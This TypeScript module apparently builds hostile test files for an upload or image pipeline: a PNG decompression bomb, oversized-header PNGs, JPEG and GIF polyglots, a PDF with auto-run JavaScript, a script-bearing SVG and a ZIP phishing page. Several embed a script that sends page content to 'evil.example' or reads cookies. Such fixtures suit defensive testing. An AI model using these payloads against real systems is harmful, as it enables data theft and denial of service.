import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Hostile files, made in code (nothing binary is committed). */

function crc32(b: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of b) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A well-formed grayscale PNG of the given size and bit depth whose image data is `idat` (already deflated). */
function png(width: number, height: number, bitDepth: number, idat: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth;
  ihdr[9] = 0; // grayscale
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/**
 * A decompression bomb: a real, complete 16 000 × 16 000 PNG (256 megapixels, under sharp's
 * own default limit of 268) in about 30 KB, that decodes to 256 MB of pixels.
 */
export function pngBomb(): Buffer {
  const side = 16_000;
  const row = 1 + side / 8; // filter byte + 1 bit per pixel
  return png(side, side, 1, deflateSync(Buffer.alloc(row * side), { level: 9 }));
}

/** A valid PNG header that claims 100 000 × 100 000 pixels, followed by almost no data. */
/** A PNG whose header claims the given size (its pixels are not all there: only the header counts). */
export function pngClaiming(width: number, height: number): Buffer {
  return png(width, height, 8, deflateSync(Buffer.alloc(1000)));
}

export function pngClaimingHugeSize(): Buffer {
  return png(100_000, 100_000, 8, deflateSync(Buffer.alloc(1000)));
}

/** The first half of a real JPEG (an upload cut off, a damaged card). */
export async function truncatedJpeg(): Promise<Buffer> {
  const full = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#884422' } }).jpeg().toBuffer();
  return full.subarray(0, Math.floor(full.length / 2));
}

export const SCRIPT = '<html><body><script>fetch("/panel").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>';

/** A JPEG that is also an HTML page with a script: every viewer shows the photo; a sniffing browser would run the page. */
export async function jpegWithHtml(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#2a7' } }).jpeg().toBuffer();
  return Buffer.concat([jpeg, Buffer.from(SCRIPT)]);
}

/** A GIF with a script after it (the classic GIFAR / GIF-JS polyglot). */
export async function gifWithScript(): Promise<Buffer> {
  const gif = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#a27' } }).gif().toBuffer();
  return Buffer.concat([gif, Buffer.from(SCRIPT)]);
}

/** A PDF that runs JavaScript when opened (OpenAction). */
export function pdfWithJavaScript(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    '<< /Type /Action /S /JavaScript /JS (app.alert\\("hola"\\); this.submitForm\\("https://evil.example/"\\);) >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(body));
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100" fill="#c00"/><script>alert(document.cookie)</script></svg>\n',
);

/** A ZIP archive (one stored file, index.html with a script): what an "image" from a phishing kit really is. */
export function zipWithHtml(): Buffer {
  const name = Buffer.from('index.html');
  const data = Buffer.from(SCRIPT);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}
